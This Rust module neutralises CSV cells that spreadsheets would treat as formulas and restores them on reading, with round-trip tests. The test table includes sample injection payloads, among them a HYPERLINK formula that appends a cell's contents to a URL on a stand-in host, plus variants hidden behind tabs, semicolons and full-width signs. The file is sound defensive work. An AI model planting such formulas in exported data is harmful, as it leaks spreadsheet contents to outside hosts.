//! Cells of a CSV table that no spreadsheet takes for a formula.
//!
//! A spreadsheet runs what begins with `=`, `+`, `-` or `@`, also behind blanks and quotation
//! marks, and behind a semicolon or a tab where those part the cells of its country. An
//! apostrophe before it makes it text. Whoever reads it back takes that apostrophe away again, so
//! that every text comes back as it was; numbers stay numbers.

use std::borrow::Cow;

/// The cell to write for a text.
pub fn neutral_cell(text: &str) -> Cow<'_, str> {
    if is_number(text) || !starts(text).any(|start| runs(&text[start..])) {
        return Cow::Borrowed(text);
    }
    let mut cell = String::with_capacity(text.len() + 1);
    let mut written = 0;
    for start in starts(text).filter(|&start| runs(&text[start..])) {
        cell += &text[written..start];
        cell.push('\'');
        written = start;
    }
    cell += &text[written..];
    Cow::Owned(cell)
}

/// The text of a cell that may have been written so.
pub(super) fn cell_text(cell: &str) -> Cow<'_, str> {
    let is_added = |start: &usize| cell[*start..].strip_prefix('\'').is_some_and(runs);
    if !starts(cell).any(|start| is_added(&start)) {
        return Cow::Borrowed(cell);
    }
    let mut text = String::with_capacity(cell.len());
    let mut read = 0;
    for start in starts(cell).filter(is_added) {
        text += &cell[read..start];
        read = start + 1;
    }
    text += &cell[read..];
    Cow::Owned(text)
}

/// Where a spreadsheet may see a cell begin.
fn starts(text: &str) -> impl Iterator<Item = usize> + '_ {
    let parts = text.match_indices([';', '\t', '\n', '\r']).map(|(place, part)| place + part.len());
    std::iter::once(0).chain(parts)
}

fn runs(text: &str) -> bool {
    let first = text.chars().find(|letter| !matches!(letter, '\'' | '"' | ' ' | '\u{a0}' | '\u{feff}'));
    matches!(
        first,
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}')
    )
}

/// Whether it is a number as programs write it: `-5`, `-0.25`, `1e-7`.
fn is_number(text: &str) -> bool {
    let is_plain = |letter: char| letter.is_ascii_digit() || matches!(letter, '+' | '-' | '.' | 'e' | 'E');
    text.contains(|letter: char| letter.is_ascii_digit())
        && text.chars().all(is_plain)
        && text.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_text_and_numbers_and_names_stay() {
        for (text, expected) in [
            ("=HYPERLINK(\"http://e.example/?\"&A1)", "'=HYPERLINK(\"http://e.example/?\"&A1)"),
            ("+1+1", "'+1+1"),
            ("-1-1", "'-1-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("  =1", "'  =1"),
            ("\"=1\"", "'\"=1\""),
            ("'=1", "''=1"),
            ("a;=1;-2", "a;'=1;'-2"),
            ("\u{ff1d}1", "'\u{ff1d}1"),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("-5", "-5"),
            ("-0.25", "-0.25"),
            ("+32", "+32"),
            ("1e-7", "1e-7"),
            ("'s-Gravenvoeren", "'s-Gravenvoeren"),
            ("Ring, -groot", "Ring, -groot"),
            ("", ""),
        ] {
            assert_eq!(neutral_cell(text), expected, "{text:?}");
            assert_eq!(cell_text(expected), text, "{expected:?}");
        }
    }

    #[test]
    fn every_text_comes_back_and_runs_nowhere() {
        let letters = ['\'', '"', ' ', '=', '-', ';', '\t', '1', 'a'];
        for number in 0..letters.len().pow(5) {
            let digit = |place| letters[number / letters.len().pow(place) % letters.len()];
            for length in 0..=5 {
                let text: String = (0..length).map(digit).collect();
                let cell = neutral_cell(&text);
                assert_eq!(cell_text(&cell), text, "{cell:?}");
                let first = cell.chars().find(|letter| !matches!(letter, '"' | ' '));
                assert!(is_number(&text) || !matches!(first, Some('=' | '-' | '\t')), "{cell:?}");
            }
        }
    }
}
